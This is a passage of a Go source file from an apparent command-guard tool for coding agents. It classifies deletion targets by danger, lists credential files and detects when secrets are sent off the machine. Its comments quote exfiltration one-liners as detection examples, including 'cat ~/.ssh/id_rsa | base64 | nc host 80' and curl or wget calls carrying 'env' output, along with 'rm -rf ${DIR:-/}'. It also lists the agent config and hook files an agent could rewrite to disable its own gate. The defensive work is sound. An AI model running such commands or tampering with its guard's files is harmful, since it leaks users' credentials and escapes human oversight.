package rules

import (
	"path"
	"slices"
	"strings"
	"sync"

	"github.com/recourse-dev/recourse/internal/pathres"
	"github.com/recourse-dev/recourse/model"
)

// PathClass is what a path operand points at, as far as the input shows.
type PathClass string

// The path classes, from most to least dangerous to delete.
const (
	PathRoot    PathClass = "root"         // / and /*
	PathSystem  PathClass = "system"       // /etc, /usr, /var, /boot ... and everything under them
	PathHome    PathClass = "home"         // a home directory itself: ~, $HOME, /home/alice
	PathDevice  PathClass = "device"       // /dev/sda
	PathDynamic PathClass = "dynamic"      // only known at run time ($X, $(...), {})
	PathCwd     PathClass = "working-dir"  // the whole working directory or above it: ., *, .., ../x
	PathUser    PathClass = "home-data"    // inside a home directory: ~/.ssh, ~/projects
	PathOther   PathClass = "absolute"     // another absolute path
	PathProject PathClass = "project"      // a relative path inside the working directory
	PathBuild   PathClass = "build-output" // an unambiguous build or cache directory (node_modules, __pycache__)
	PathTemp    PathClass = "temp"         // /tmp, /var/tmp, $TMPDIR and everything under them
	PathNull    PathClass = "null-device"  // /dev/null, /dev/stdout, /dev/stderr
)

var classRank = sync.OnceValue(func() map[PathClass]int {
	return map[PathClass]int{PathRoot: 0, PathSystem: 1, PathHome: 2, PathDevice: 3, PathDynamic: 4, PathCwd: 5,
		PathUser: 6, PathOther: 7, PathProject: 8, PathBuild: 9, PathTemp: 10, PathNull: 11}
})

// Worse reports whether a is more dangerous to delete than b.
func Worse(a, b PathClass) bool { return classRank()[a] < classRank()[b] }

// systemDirs are the top-level directories that belong to the system,
// by name: everything under them is PathSystem.
var systemDirs = sync.OnceValue(func() map[string]bool {
	return map[string]bool{"etc": true, "usr": true, "bin": true, "sbin": true, "lib": true, "lib32": true, "lib64": true,
		"libx32": true, "boot": true, "var": true, "opt": true, "srv": true, "sys": true, "proc": true, "root": true, "run": true,
		"mnt": true, "media": true, "snap": true, "nix": true, "System": true, "Library": true, "Applications": true,
		"private": true, "Volumes": true, "cores": true, "efi": true, "lost+found": true}
})

var nullDevices = map[string]bool{"/dev/null": true, "/dev/stdout": true, "/dev/stderr": true, "/dev/tty": true, "/dev/zero": false}

// buildDirs are directory names that only ever hold generated files:
// package caches, build outputs (dist, target) and test coverage. "build"
// is not one: it names source directories too (Go packages, Bazel), and a
// command guard's corpus denies rm -rf ./build.
var buildDirs = sync.OnceValue(func() map[string]bool {
	return map[string]bool{"dist": true, "target": true, "coverage": true, ".nyc_output": true, "node_modules": true, "__pycache__": true, ".pytest_cache": true, ".mypy_cache": true,
		".ruff_cache": true, ".tox": true, ".next": true, ".nuxt": true, ".turbo": true, ".parcel-cache": true, ".gradle": true,
		".cache": true, ".terraform": true, ".angular": true, ".svelte-kit": true, ".venv": true, ".eggs": true, ".hypothesis": true,
		"htmlcov": true, ".docusaurus": true, ".expo": true, ".dart_tool": true, ".stack-work": true, "dist-newstyle": true,
		".output": true, ".vite": true, ".serverless": true, "storybook-static": true,
		// IDE state: JetBrains' .idea and Visual Studio's .vs are written again
		// when the project is opened.
		".idea": true, ".vs": true}
})

// homeCaches are the cache directories under a home directory: what they
// hold is downloaded or built again on demand.
var homeCaches = []string{".cache", "Library/Caches", ".npm", ".gradle/caches", ".gradle/wrapper/dists", ".m2/repository", ".cargo/registry", "go/pkg/mod",
	"Library/Developer/Xcode/DerivedData", "Library/Developer/CoreSimulator/Caches", ".terraform.d/plugin-cache", ".yarn/berry/cache",
	".pnpm-store", ".local/share/pnpm/store", "Library/pnpm/store", ".bun/install/cache", ".composer/cache", ".ivy2/cache", ".nuget/packages",
	".pub-cache", ".cabal/packages", ".ccache"}

// homeCache reports whether rest, a path relative to a home directory,
// lies in one of homeCaches (not the cache directory itself being the
// home: ~/.cache/pip is a cache, ~ is not).
func homeCache(rest string) bool { return UnderAny(rest, homeCaches) }

var tempVars = map[string]bool{"TMPDIR": true, "TMP": true, "TEMP": true}

// ClassifyPath says what a path operand of c points at. A dynamic operand
// is classified by its shape when the shape says enough ($TMPDIR/x is
// temp, $HOME is home), and otherwise is PathDynamic.
func ClassifyPath(a model.Arg, c *model.Command) PathClass {
	if a.Dynamic {
		return classifyDynamic(a.Value, c)
	}
	return classifyStatic(homeSpelled(a.Value, c.Home), homeSpelled(c.Cwd, c.Home))
}

// homeSpelled returns p as a path in the home directory home ("~/rest")
// when it is one, whatever home's own path (/github/home, /Users/x), and p
// otherwise; a home directory the caller did not give ("") or the root
// changes nothing.
func homeSpelled(p, home string) string {
	if home == "" || p == "" || !path.IsAbs(p) {
		return p
	}
	home = pathres.Clean(home)
	if home == "/" || !path.IsAbs(home) {
		return p
	}
	clean := pathres.Clean(p)
	if clean == home {
		return "~"
	}
	if rest, ok := strings.CutPrefix(clean, home+"/"); ok {
		return "~/" + rest
	}
	return p
}

func classifyDynamic(v string, c *model.Command) PathClass {
	// The paths a search finds under a start directory are judged as that
	// directory: they may be any file in it.
	if start, ok := strings.CutSuffix(v, "/"+model.FoundPath); ok && !strings.ContainsAny(start, "${}*?[") {
		if start == "" {
			start = "/"
		}
		return classifyStatic(start, c.Cwd)
	}
	if name, def, rest, ok := defaultParam(v); ok {
		// ${NAME:-DEFAULT}rest: the worse of NAME's reading and the
		// default's (rm -rf ${DIR:-/} is rm -rf / when DIR is unset).
		class := classifyDynamic("$"+name+rest, c)
		alt := ClassifyPath(model.Arg{Value: def + rest, Dynamic: strings.Contains(def, "$")}, c)
		if Worse(alt, class) {
			return alt
		}
		return class
	}
	if strings.Contains(v, "$(") || strings.Contains(v, "<(") || strings.Contains(v, "{}") || !strings.HasPrefix(v, "$") {
		return PathDynamic
	}
	name, rest := splitVar(v[1:])
	switch {
	case tempVars[name]:
		if model.HasDotDot(rest) {
			return PathDynamic
		}
		class := PathTemp
		// A temp variable the line itself points elsewhere is judged by
		// the worse of its two readings (bash expands the caller's value,
		// but the intent is plain).
		if set, ok := c.Env[name]; ok {
			if other := classifyStatic(set+rest, c.Cwd); Worse(other, class) {
				class = other
			}
		}
		return class
	case name == "HOME":
		return classifyStatic("~"+rest, c.Cwd)
	case name == "PWD" && c.Cwd != "":
		return classifyStatic(c.Cwd+rest, c.Cwd)
	}
	return PathDynamic
}

// defaultParam splits the shell parser's rendering of a parameter with a
// default, ${NAME:-DEFAULT}rest (or -, :=, =), at the front of v.
func defaultParam(v string) (name, def, rest string, ok bool) {
	body, found := strings.CutPrefix(v, "${")
	if !found {
		return "", "", "", false
	}
	end := strings.IndexByte(body, '}')
	if end < 0 {
		return "", "", "", false
	}
	name, _ = splitVar(body[:end])
	expr := body[len(name):end]
	for _, op := range []string{":-", ":=", "-", "="} {
		if d, isOp := strings.CutPrefix(expr, op); isOp && name != "" {
			return name, d, body[end+1:], true
		}
	}
	return "", "", "", false
}

// splitVar splits "NAME/rest" or "{NAME}/rest".
func splitVar(s string) (string, string) {
	s = strings.TrimPrefix(s, "{")
	i := 0
	for i < len(s) && (s[i] == '_' || (s[i] >= 'A' && s[i] <= 'Z') || (s[i] >= 'a' && s[i] <= 'z') || (i > 0 && s[i] >= '0' && s[i] <= '9')) {
		i++
	}
	return s[:i], strings.TrimPrefix(s[i:], "}")
}

func classifyStatic(v, cwd string) PathClass {
	switch {
	case v == "":
		return PathDynamic
	case v == "~" || v == "~/" || (strings.HasPrefix(v, "~") && !strings.Contains(strings.TrimSuffix(v, "/"), "/")):
		return PathHome
	case strings.HasPrefix(v, "~/"):
		rest := strings.Trim(cleanPath(v[2:]), "/")
		if rest == "." || rest == "" || rest == "*" || strings.HasPrefix(rest, "..") {
			return PathHome
		}
		if homeCache(rest) {
			return PathBuild
		}
		return PathUser
	case path.IsAbs(v):
		p := cleanPath(v)
		class := classifyAbsolute(p)
		if rel, ok := insideCwd(p, cwd); ok && (class == PathUser || class == PathOther) {
			// /work/app/node_modules run in /work/app is node_modules,
			// /work/app itself the working directory.
			return classifyStatic(rel, cwd)
		}
		return class
	case isWindowsPath(v):
		return classifyWindows(v)
	}
	// A relative path.
	clean := cleanPath(trimDotSlash(v))
	if clean == "." || clean == "*" || clean == ".*" || strings.HasPrefix(clean, "..") || strings.HasPrefix(clean, "*") && !strings.Contains(clean, "/") && len(clean) <= 2 {
		// The working directory itself is never disposable, even in temp.
		return PathCwd
	}
	if cwd != "" {
		switch c := classifyAbsolute(cwdPath(cwd)); c {
		case PathTemp, PathBuild:
			return c // in a cache (~/.cache) or build directory, all is regenerable
		case PathHome, PathUser:
			if isHome(cwd) {
				return PathUser
			}
			// In a home directory's dot directory (cd ~/.ssh), a path is
			// what it would be spelled from the home directory.
			if rest, ok := homeRelative(cwd); ok && strings.HasPrefix(rest, ".") && !strings.HasPrefix(rest, "..") {
				return classifyStatic("~/"+path.Join(rest, clean), "")
			}
		case PathRoot, PathSystem:
			return classifyAbsolute(path.Join(cwdPath(cwd), clean))
		}
	}
	if first, _, _ := strings.Cut(clean, "/"); buildDirs()[first] || strings.HasSuffix(first, ".egg-info") || lockFiles()[path.Base(clean)] {
		return PathBuild
	}
	return PathProject
}

// lockFiles are the package managers' lock files: an install writes them
// again (rm -rf node_modules package-lock.json && npm install), and the
// committed one comes back from version control.
var lockFiles = sync.OnceValue(func() map[string]bool {
	return map[string]bool{"package-lock.json": true, "npm-shrinkwrap.json": true, "yarn.lock": true, "pnpm-lock.yaml": true,
		"bun.lockb": true, "bun.lock": true, "Cargo.lock": true, "poetry.lock": true, "Pipfile.lock": true, "uv.lock": true, "Gemfile.lock": true,
		"composer.lock": true, "go.sum": true, "mix.lock": true, "pubspec.lock": true, "Podfile.lock": true, "packages.lock.json": true,
		"gradle.lockfile": true, ".terraform.lock.hcl": true}
})

// insideCwd returns the absolute path p relative to the working directory
// cwd ("." for cwd itself) when p is inside it (cwd empty: unknown, so no).
func insideCwd(p, cwd string) (string, bool) {
	if cwd == "" || strings.HasPrefix(cwd, "~") {
		return "", false
	}
	dir := cleanPath(cwd)
	if p == dir {
		return ".", true
	}
	rel, ok := strings.CutPrefix(p, strings.TrimSuffix(dir, "/")+"/")
	return rel, ok && rel != ""
}

// cwdPath maps "~" to a home-like absolute path for classification.
func cwdPath(cwd string) string {
	if cwd == "~" || strings.HasPrefix(cwd, "~/") {
		return "/home/~" + strings.TrimPrefix(cwd, "~")
	}
	return cleanPath(cwd)
}

func isHome(cwd string) bool {
	if cwd == "~" {
		return true
	}
	parts := strings.Split(strings.Trim(cleanPath(cwd), "/"), "/")
	return len(parts) == 2 && (parts[0] == "home" || parts[0] == "Users") || (len(parts) == 1 && parts[0] == "root")
}

// isWindowsPath reports whether v is a Windows path from a drive's root
// (C:\Windows, D:/data): what an agent on Windows hands a file tool.
func isWindowsPath(v string) bool {
	return len(v) >= 3 && v[1] == ':' && (v[2] == '\\' || v[2] == '/') &&
		(v[0] >= 'a' && v[0] <= 'z' || v[0] >= 'A' && v[0] <= 'Z')
}

// windowsSystemDirs are the directories at a drive's root that Windows
// and its installed programs live in.
var windowsSystemDirs = map[string]bool{"windows": true, "program files": true, "program files (x86)": true, "programdata": true,
	"system volume information": true, "recovery": true, "boot": true, "$recycle.bin": true}

// classifyWindows classifies a Windows path the way classifyAbsolute does
// a Unix one: the drive's root, the system directories, users' home
// directories and what is in them, temp, anything else. Windows compares
// names without regard to case.
func classifyWindows(v string) PathClass {
	p := cleanPath("/" + strings.ToLower(strings.ReplaceAll(v[2:], "\\", "/")))
	parts := strings.Split(strings.Trim(p, "/"), "/")
	switch {
	case p == "/" || p == "/*":
		return PathRoot
	case parts[0] == "temp" || parts[0] == "tmp" || len(parts) > 1 && parts[0] == "windows" && parts[1] == "temp":
		return PathTemp
	case windowsSystemDirs[parts[0]]:
		return PathSystem
	case parts[0] == "users" && len(parts) <= 2:
		if len(parts) == 1 {
			return PathSystem
		}
		return PathHome
	case parts[0] == "users" && len(parts) > 4 && parts[2] == "appdata" && parts[3] == "local" && parts[4] == "temp":
		return PathTemp
	case parts[0] == "users":
		return PathUser
	}
	return PathOther
}

func classifyAbsolute(p string) PathClass {
	if p == "/" || p == "/*" || p == "/." {
		return PathRoot
	}
	if under(p, "/dev") {
		if nullDevices[p] {
			return PathNull
		}
		return PathDevice
	}
	if model.InTempDir(p) { // p is clean: no ".." segment is left to escape
		return PathTemp
	}
	if top, _, _ := strings.Cut(strings.TrimPrefix(p, "/"), "/"); path.IsAbs(p) && systemDirs()[top] {
		if top == "root" && p != "/root" {
			if homeCache(strings.TrimPrefix(p, "/root/")) {
				return PathBuild
			}
			return PathUser
		}
		if deployedBuild(p) || systemCache(p) {
			return PathBuild
		}
		if appDir(p) || mountedVolume(p) {
			return PathOther
		}
		return PathSystem
	}
	if under(p, "/home") || under(p, "/Users") {
		trimmed := strings.Trim(p, "/")
		parts := strings.Split(trimmed, "/")
		if len(parts) <= 2 || (len(parts) == 3 && parts[2] == "*") {
			return PathHome
		}
		// What follows /home/NAME/, sliced rather than joined again.
		if homeCache(trimmed[len(parts[0])+len(parts[1])+2:]) {
			return PathBuild
		}
		return PathUser
	}
	if strings.Count(p, "/") == 1 && strings.HasSuffix(p, "*") {
		return PathRoot
	}
	return PathOther
}

// deployedBuild reports whether the system path p lies in a build or
// cache directory two levels or more below the root: an application
// deployed under /var/www, /srv or /opt regenerates its node_modules or
// .venv there as a checkout does (cd /var/www/app && rm -rf node_modules),
// and /usr/lib/node_modules holds what npm install -g puts back.
func deployedBuild(p string) bool {
	i := 0
	for dir := range strings.SplitSeq(strings.TrimPrefix(p, "/"), "/") {
		if i >= 2 && buildDirs()[dir] {
			return true
		}
		i++
	}
	return false
}

// appDirs hold applications' own directories: /srv/NAME, /opt/NAME and
// /var/www/NAME are where a deploy puts an application.
var appDirs = []string{"/srv/", "/opt/", "/var/www/"}

// appDir reports whether p lies in an application's directory under one of
// appDirs (/srv/app, /opt/app/app.jar, /var/www/html/index.html): what is
// there is the application's, not the system's, so a copy into it (scp
// app.jar host:/opt/app/) overwrites the application's files, and a tree
// delete of it is judged as any other absolute path's. /srv, /opt and
// /var/www themselves, and everything in them at once (/opt/*), stay the
// system's.
func appDir(p string) bool {
	for _, root := range appDirs {
		if rest, ok := strings.CutPrefix(p, root); ok && rest != "" && rest != "*" {
			return true
		}
	}
	return false
}

// systemCaches are the system's cache directories: the Filesystem
// Hierarchy Standard 3.0 (section 5.5, /var/cache) says an application
// must be able to regenerate what it keeps there and that "the cached
// files can be deleted without data loss"; apt-get update downloads
// /var/lib/apt/lists again (apt-get(8)). What is in them (rm -rf
// /var/lib/apt/lists/* in an image build) is regenerable; the directories
// themselves stay the system's.
var systemCaches = []string{"/var/cache/", "/var/lib/apt/lists/"}

// systemCache reports whether p lies in one of systemCaches.
func systemCache(p string) bool {
	for _, root := range systemCaches {
		if rest, ok := strings.CutPrefix(p, root); ok && rest != "" {
			return true
		}
	}
	return false
}

// mountDirs hold mounted volumes (FHS 3.0 3.11 and 3.12: /media/NAME for
// removable media, /mnt for a temporarily mounted filesystem).
var mountDirs = []string{"/mnt/", "/media/"}

// mountedVolume reports whether p lies in a volume mounted under one of
// mountDirs (/mnt/backup/disk.img, /media/usb/photos): what is there is
// the volume's data, judged as any other absolute path's (a delete of it
// still blocks), not a system file, so a backup written there is a new
// file on a data volume. /mnt and /media themselves, and everything in
// them at once (/mnt/*), stay the system's.
func mountedVolume(p string) bool {
	for _, root := range mountDirs {
		if rest, ok := strings.CutPrefix(p, root); ok && rest != "" && rest != "*" {
			return true
		}
	}
	return false
}

// UnderAny reports whether the clean path p is one of dirs or inside one.
func UnderAny(p string, dirs []string) bool {
	return slices.ContainsFunc(dirs, func(dir string) bool { return under(p, dir) })
}

// under reports whether p is dir or inside it.
func under(p, dir string) bool {
	return strings.HasPrefix(p, dir) && (len(p) == len(dir) || p[len(dir)] == '/')
}

// Critical reports whether a path of class c is the root, a system path, a
// device or a home directory itself: what no delete or overwrite of it
// leaves recoverable.
func (c PathClass) Critical() bool {
	switch c {
	case PathRoot, PathSystem, PathDevice, PathHome:
		return true
	}
	return false
}

// CriticalPath holds when some operand after skip is a critical path.
func CriticalPath(skip int) Cond {
	return classCond(classesOf(PathRoot, PathSystem, PathDevice, PathHome), operandWhere(skip, "a root, system, device or home path", func(f Facts, a model.Arg) bool {
		return f.pathClass(a).Critical()
	}))
}

// Resolve returns the path operand a of c as spelled from c's working
// directory when a is relative and that directory is known (id_rsa run
// in ~/.ssh is ~/.ssh/id_rsa; settings.json after cd .claude is
// .claude/settings.json), read by the one path resolver (pathres.Join),
// and a's own text otherwise: also for what may name another machine's
// file (gs://b/x, host:path).
func Resolve(a model.Arg, c *model.Command) string {
	if a.Dynamic || c == nil || a.Value == "" || a.Value[0] == '~' || strings.Contains(a.Value, ":") {
		return a.Value
	}
	if path.IsAbs(a.Value) {
		return homeSpelled(a.Value, c.Home)
	}
	if c.Cwd == "" {
		return a.Value
	}
	return homeSpelled(pathres.Join(c.Cwd, a.Value, ""), c.Home)
}

// HomeDotfile reports whether p is a dotfile of a home directory or lies in
// one of its dot directories (~/.bashrc, ~/.ssh/authorized_keys,
// /home/alice/.aws/credentials): configuration and keys that no version
// control keeps.
func HomeDotfile(p string) bool {
	rest, ok := homeRelative(p)
	return ok && strings.HasPrefix(rest, ".") && !strings.HasPrefix(rest, "..") && rest != "."
}

// homeRelative returns p relative to the home directory it lies in
// (~/.ssh/id_rsa, $HOME/x, /home/alice/x, /root/x, C:\Users\NAME\x), and
// false for a path in no home directory.
func homeRelative(p string) (string, bool) {
	if isWindowsPath(p) { // C:\Users\NAME\.ssh\authorized_keys
		p = "/" + strings.ReplaceAll(p[3:], "\\", "/")
	}
	switch {
	case strings.HasPrefix(p, "~/"):
		return p[2:], true
	case strings.HasPrefix(p, "$HOME/"):
		return p[len("$HOME/"):], true
	case strings.HasPrefix(p, "${HOME}/"):
		return p[len("${HOME}/"):], true
	}
	parts := strings.SplitN(strings.TrimPrefix(cleanPath(p), "/"), "/", 3)
	switch {
	case !path.IsAbs(p):
		return "", false
	case (parts[0] == "home" || parts[0] == "Users") && len(parts) == 3:
		return parts[2], true
	case parts[0] == "root" && len(parts) >= 2:
		return strings.Join(parts[1:], "/"), true
	}
	return "", false
}

// secretHomeFiles are the files and directories of a home directory that
// hold credentials; a directory's whole tree counts.
var secretHomeFiles = []string{".ssh", ".aws", ".kube/config", ".docker/config.json", ".netrc", ".npmrc", ".pypirc", ".git-credentials",
	".gnupg", ".config/gh/hosts.yml", ".config/gcloud", ".azure", ".terraform.d/credentials.tfrc.json", ".vault-token", ".pgpass",
	".my.cnf", ".boto", ".cargo/credentials", ".cargo/credentials.toml", ".gem/credentials", ".password-store", ".config/hub",
	".config/op", ".oci", ".config/doctl", ".fly/config.yml", ".config/helm/repositories.yaml", ".databrickscfg", ".snowsql/config"}

// publicSSHFiles are the files of ~/.ssh that hold no secret.
var publicSSHFiles = []string{"known_hosts", "known_hosts.old", "config", "authorized_keys", "authorized_keys2"}

// SecretFile reports whether p names credentials: a private key
// (~/.ssh/id_ed25519, or any id_rsa), a home directory's credential file
// or directory (~/.aws/credentials, ~/.kube/config, ~/.netrc, ~/.gnupg
// ...), an environment file, or the system's password hashes and host
// keys (/etc/shadow, /etc/ssh/ssh_host_ed25519_key). Public keys,
// known_hosts and ~/.ssh/config are not.
func SecretFile(p string) bool {
	if strings.Contains(p, "://") { // a remote object (s3://b/.env) is not a file here
		return false
	}
	p = strings.TrimSuffix(strings.TrimSuffix(p, "/."), "/")
	base := path.Base(p)
	if strings.HasSuffix(base, ".pub") {
		return false
	}
	if EnvFile(p) || slices.Contains([]string{"id_rsa", "id_dsa", "id_ecdsa", "id_ed25519", "id_ecdsa_sk", "id_ed25519_sk"}, base) {
		return true
	}
	if rest, ok := homeRelative(p); ok {
		if dir, file, _ := strings.Cut(rest, "/"); dir == ".ssh" && slices.Contains(publicSSHFiles, file) {
			return false
		}
		return UnderAny(rest, secretHomeFiles)
	}
	switch clean := cleanPath(p); {
	case clean == "/etc/shadow" || clean == "/etc/gshadow" || clean == "/etc/ssl/private" || strings.HasPrefix(clean, "/etc/ssl/private/"):
		return true
	case strings.HasPrefix(clean, "/etc/ssh/ssh_host_") && strings.HasSuffix(clean, "_key"):
		return true
	}
	return false
}

// SendsSecretReason says why sending a credential file away needs review.
const SendsSecretReason = "sends credentials (a private key, cloud, cluster or registry credentials, an environment file, password hashes, a secret or token a command printed) off this machine: once the other side has read it, it cannot be taken back, and whether that side should have it is not in the input"

// SecretIs holds when an operand after skip names credentials
// (SecretFile).
func SecretIs(skip int) Cond {
	return operandWhere(skip, "a credential file", func(f Facts, a model.Arg) bool { return SecretFile(Resolve(a, f.M.Command)) })
}

// SecretStdin holds when the command's stdin carries credentials
// (SecretOnStdin): nc host 80 < ~/.aws/credentials, cat ~/.ssh/id_rsa |
// base64 | nc host 80, env | nc host 80.
func SecretStdin() Cond {
	return Func("stdin carries credentials", func(f Facts) Result {
		if ev, ok := SecretOnStdin(f.M.Command); ok {
			return Result{Truth: True, Evidence: []model.Evidence{ev}}
		}
		return Result{Truth: False}
	})
}

// SecretOnStdin reports whether c's stdin carries credentials, with the
// evidence: a redirection from a credential file, or a pipe from commands
// that name one, print the environment (env, printenv) or print a secret
// (secretPrinters: kubectl get secret -o yaml, gcloud auth
// print-access-token).
func SecretOnStdin(c *model.Command) (model.Evidence, bool) {
	if file, ok := strings.CutPrefix(c.StdinFrom, "file "); ok && SecretFile(Resolve(model.Arg{Value: strings.Trim(file, `'"`)}, c)) {
		return model.Evidence{Key: "stdin", Value: file, Present: true, Description: "a credential file"}, true
	}
	if c.Sources == nil {
		return model.Evidence{}, false
	}
	return secretFrom(c.Sources.Piped, "piped from")
}

// SecretInArg reports whether argument a of c takes in the output of a
// command that reads a credential file, prints the environment or prints
// a secret (curl -d "$(cat ~/.ssh/id_rsa)" URL, wget
// "https://x/?k=$(env | base64)"), with the evidence.
func SecretInArg(c *model.Command, a model.Arg) (model.Evidence, bool) {
	if !a.Dynamic || c.Sources == nil {
		return model.Evidence{}, false
	}
	for _, sub := range c.Sources.Substituted {
		if sub.In != a.Value {
			continue
		}
		if ev, ok := secretFrom(sub.Commands, "substituted from"); ok {
			return ev, true
		}
	}
	return model.Evidence{}, false
}

// secretFrom reports whether the output of commands (each given by its
// words) carries credentials: one names a credential file, prints the
// environment or prints a secret. key names where the output goes in the
// evidence.
func secretFrom(commands [][]model.Arg, key string) (model.Evidence, bool) {
	for _, words := range commands {
		if len(words) > 0 && (words[0].Value == "echo" || words[0].Value == "printf") {
			continue // prints its words: a path, not the file (echo ~/.ssh/id_rsa)
		}
		for _, a := range words {
			switch {
			case SecretFile(a.Value):
				return model.Evidence{Key: key, Value: a.Value, Present: true, Description: "a credential file"}, true
			case a.Value == "env" || a.Value == "printenv":
				return model.Evidence{Key: key, Value: a.Value, Present: true, Description: "the environment, where tokens and keys are often kept"}, true
			}
		}
		if what, ok := printedSecret(words); ok {
			return model.Evidence{Key: key, Value: joinWords(words), Present: true, Description: what}, true
		}
	}
	return model.Evidence{}, false
}

// joinWords spells a command's words back as one line.
func joinWords(words []model.Arg) string {
	var b strings.Builder
	for i, a := range words {
		if i > 0 {
			b.WriteByte(' ')
		}
		b.WriteString(a.Value)
	}
	return b.String()
}

// EnvFile reports whether p is an environment file: .env or .env.NAME,
// which hold secrets and settings kept out of version control, but not the
// templates committed beside them (.env.example, .env.sample,
// .env.template, .env.dist).
func EnvFile(p string) bool {
	base := path.Base(strings.ReplaceAll(p, `\`, "/"))
	if base == ".env" {
		return true
	}
	name, ok := strings.CutPrefix(base, ".env.")
	return ok && name != "" && !slices.Contains([]string{"example", "sample", "template", "dist", "defaults", "schema"}, name)
}

// BackupName reports whether p is named as a backup copy (~/.zshrc.bak,
// .bashrc.orig, config~): replacing or deleting such a copy is how one
// keeps the original, not a loss of it.
func BackupName(p string) bool {
	for _, suffix := range []string{".bak", ".backup", ".orig", ".old", ".save", ".saved", ".prev", "~"} {
		if strings.HasSuffix(p, suffix) {
			return true
		}
	}
	return false
}

// cleanPath is path.Clean, without its copy and rescan of a path that is
// clean already (/workspace/project, build/cache): most are.
func cleanPath(p string) string {
	if isClean(p) {
		return p
	}
	return path.Clean(p)
}

// isClean reports whether path.Clean would return p unchanged: "/" or
// elements that are neither empty, "." nor "..", with no slash at the end.
func isClean(p string) bool {
	if p == "/" {
		return true
	}
	start := 0
	if p != "" && p[0] == '/' {
		start = 1
	}
	for i := start; i <= len(p); i++ {
		if i == len(p) || p[i] == '/' {
			if elem := p[start:i]; elem == "" || elem == "." || elem == ".." {
				return false
			}
			start = i + 1
		}
	}
	return true
}

// trimDotSlash drops a relative path's leading "./" (./build, ././x),
// which path.Clean would copy the string to drop.
func trimDotSlash(v string) string {
	for len(v) > 2 && v[0] == '.' && v[1] == '/' && v[2] != '/' {
		v = v[2:]
	}
	return v
}

// agentConfigFiles are the files, by the directory they sit in, that
// configure a coding agent, the hooks that gate it, or code git runs on its
// own: an agent that rewrites them can turn its guard off (Claude Code's
// hooks and permissions, an MCP server added with its tools pre-approved)
// or plant code for a later commit to run. "*" is any file in the
// directory.
var agentConfigFiles = sync.OnceValue(func() map[string][]string {
	return map[string][]string{
		".claude":   {"settings.json", "settings.local.json", "hooks"},
		".cursor":   {"mcp.json", "hooks.json", "cli.json"},
		".codex":    {"config.toml", "hooks.json"},
		".gemini":   {"settings.json"},
		".vscode":   {"settings.json", "mcp.json"},
		".git":      {"config", "hooks"},
		".husky":    {"*"},
		".windsurf": {"mcp.json", "hooks.json"},
		// The hook files of recourse install's other hosts (docs/hooks):
		// Windsurf's user hooks, Cline's, Kiro's agents, goose's plugins and
		// Copilot's repository hooks.
		".codeium":    {"windsurf"},
		".clinerules": {"hooks"},
		".kiro":       {"agents", "settings"},
		".agents":     {"plugins"},
		".github":     {"hooks"},
		".copilot":    {"*"},
		// Issue 30's new hosts: Qwen Code's and Factory Droid's settings (and
		// Droid's hooks.json), Kimi Code CLI's config.toml, OpenCode's project
		// plugins (its user configuration is agentConfigDirs').
		".qwen":     {"settings.json"},
		".factory":  {"settings.json", "settings.local.json", "hooks.json", "hooks"},
		".kimi":     {"config.toml"},
		".opencode": {"plugins", "plugin"},
	}
})

// agentConfigDirs are agents' configuration directories that sit below a
// directory other programs share (~/.config): everything in them is
// agent configuration, the shared directory is not.
var agentConfigDirs = []string{".config/opencode"}

// gateFile reports whether p is Recourse's own configuration or state: a
// project's .recourse.yaml, the user's configuration (~/.config/recourse)
// and allow-once codes (~/.local/state/recourse), and the managed
// configuration (/etc/recourse). An agent that writes them could approve
// its own denial or relax the gate.
func gateFile(p string) bool {
	base := path.Base(p)
	return base == ".recourse.yaml" || base == ".recourse.yml" ||
		underDir(p, ".config/recourse") || underDir(p, ".local/state/recourse") || underDir(p, "/etc/recourse")
}

// underDir reports whether p is dir or inside it, dir matching at a
// component boundary (.config/recourse in ~/.config/recourse/config.yaml,
// not in ~/.config/recourse-old).
func underDir(p, dir string) bool {
	i := strings.Index(p, dir)
	switch {
	case i < 0, strings.HasPrefix(dir, "/") && i != 0, i > 0 && p[i-1] != '/':
		return false
	}
	rest := p[i+len(dir):]
	return rest == "" || rest[0] == '/'
}

// AgentConfig reports whether p (relative or absolute) is a file that
// configures a coding agent or its gate, or a git hook: .claude/settings.json,
// .mcp.json, .cursor/mcp.json, .vscode/settings.json, .git/hooks/pre-commit,
// .git/config, .husky/pre-commit, and Recourse's own configuration and
// state (.recourse.yaml, ~/.config/recourse, ~/.local/state/recourse,
// /etc/recourse).
//
// Names are compared as pathres.Fold spells them, so .CLAUDE/Settings.json,
// .claude\settings.json and ".claude/settings.json. " (the same file on
// macOS or Windows) are it too.
func AgentConfig(p string) bool {
	// Every file it names sits in or is a dot directory or file: most
	// operands have no dot at all and are answered without folding
	// (which copies).
	if !strings.Contains(p, ".") && !strings.HasPrefix(p, "/etc/") {
		return false
	}
	p = trimDotSlash(pathres.Fold(p))
	if strings.HasPrefix(p, "/etc/recourse") && gateFile(p) {
		return true
	}
	if !strings.HasPrefix(p, ".") && !strings.Contains(p, "/.") {
		return false
	}
	if path.Base(p) == ".mcp.json" || gateFile(p) {
		return true
	}
	for _, d := range agentConfigDirs {
		if underDir(p, d) {
			return true
		}
	}
	// Walk the components pairwise without splitting: every rm asks.
	for p != "" {
		dir, rest, more := strings.Cut(p, "/")
		if !more {
			return false
		}
		if files, ok := agentConfigFiles()[dir]; ok {
			next, _, _ := strings.Cut(rest, "/")
			if slices.Contains(files, next) || slices.Contains(files, "*") {
				return true
			}
		}
		p = rest
	}
	return false
}

// gitHookNames are the hooks git runs from .git/hooks (githooks(5)).
var gitHookNames = []string{"applypatch-msg", "pre-applypatch", "post-applypatch", "pre-commit", "pre-merge-commit", "prepare-commit-msg",
	"commit-msg", "post-commit", "pre-rebase", "post-checkout", "post-merge", "pre-push", "pre-receive", "update", "proc-receive",
	"post-receive", "post-update", "reference-transaction", "push-to-checkout", "pre-auto-gc", "post-rewrite", "sendemail-validate",
	"fsmonitor-watchman", "p4-changelist", "p4-prepare-changelist", "p4-post-changelist", "p4-pre-submit", "post-index-change"}

// AgentConfigName reports whether the file name base (no directory) is
// the name of an agent's or git's configuration file in some directory
// that holds one (settings.json of .claude, config.toml of .codex, a git
// hook's name, .mcp.json, .recourse.yaml), compared as pathres.Fold
// spells it: in a directory that is not known, it may be that file.
func AgentConfigName(base string) bool {
	base = pathres.Fold(base)
	if base == "" || strings.Contains(base, "/") {
		return false
	}
	if base == ".mcp.json" || gateFile(base) || slices.Contains(gitHookNames, base) {
		return true
	}
	for _, files := range agentConfigFiles() {
		if slices.Contains(files, base) {
			return true
		}
	}
	return false
}

// AgentConfigNameInFoundDir holds when the command runs in the directory
// of each path a search finds (find -execdir, -okdir: any directory under
// where it starts, .claude among them) and some operand after skip is a
